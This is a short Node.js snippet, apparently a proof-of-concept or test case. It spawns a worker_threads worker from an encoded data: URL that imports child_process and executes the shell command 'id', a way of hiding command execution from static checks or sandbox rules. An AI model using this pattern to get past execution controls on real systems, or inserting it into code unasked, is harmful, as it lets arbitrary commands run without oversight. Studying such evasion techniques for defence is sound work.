import { Worker as W } from 'node:worker_threads';
const url = new URL('data:text/javascript,' + encodeURIComponent("import('child_process').then(m=>m.exec('id'))"));
new W(url);
